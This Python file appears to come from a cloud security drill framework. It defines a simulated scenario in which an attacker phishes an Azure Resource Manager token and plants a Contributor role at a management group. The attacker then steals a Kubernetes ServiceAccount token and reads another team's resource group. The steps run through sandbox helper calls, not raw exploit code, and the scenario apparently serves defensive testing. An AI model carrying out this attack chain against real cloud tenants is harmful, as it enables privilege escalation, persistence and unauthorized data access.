"""Scenario: a role at a management group, which every subscription below it inherits."""

from functools import partial

from drill.options import Json
from drill.scenarios.scenario import OF_AN_APPLICATION, Scenario, Tell, orders_api
from drill.scenarios.stolen_service_account_token import ACCOUNT, CLUSTER, NAMESPACE
from sandbox.attacks import cashing_in
from sandbox.attacks import role_assignment_backdoor as roles
from sandbox.attacks.attacker import Attacker
from sandbox.attacks.compromise import ARM
from sandbox.attacks.held import Held

SCOPE = "/providers/Microsoft.Management/managementGroups/mg-platform"
_CONTRIBUTOR = "b24988ac-6180-42a0-ab88-20f7382dd24c"


def _ground(described: Json) -> Json:
    """Somebody once needed it for an afternoon: dana may hand out roles above every subscription."""
    dana = described["seed"]["users"]["dana"]["object_id"]
    right = {"scope": SCOPE, "role": "User Access Administrator", "principalId": dana}
    return {"roleAssignments": [right]}


async def _attack(attacker: Attacker, described: Json, tell: Tell) -> Held:
    held, victim = Held(), orders_api(described)
    token = await attacker.phish(victim.phished, ARM)
    tell(f"{victim.phished} is phished", "a token for Resource Manager")
    held.secrets["phished ARM token"] = token
    await roles.plant(attacker, token, SCOPE, victim.object_id, role=_CONTRIBUTOR)
    tell("role planted", f"Contributor at {SCOPE.rsplit('/', 1)[-1]}")
    stolen = await cashing_in.steal_account_token(attacker, held, CLUSTER, NAMESPACE, ACCOUNT)
    tell("ServiceAccount token stolen from a pod", CLUSTER)
    ask = partial(attacker.exchange_assertion, victim.app_id, stolen, cashing_in.ARM_SCOPE)
    group = f"/subscriptions/{described['subscription_id']}/resourceGroups/rg-security"
    path = f"{group}?api-version=2021-04-01"
    await cashing_in.read_resource(attacker, held, "stolen ServiceAccount token", ask, path)
    tell("another team's resource group read", "HTTP 200 rg-security")
    return held


SCENARIO = Scenario(
    name="role-at-management-group",
    story="orders-api becomes Contributor of every subscription below mg-platform",
    victim=orders_api,
    attack=_attack,
    ground=_ground,
    levers=OF_AN_APPLICATION,
)
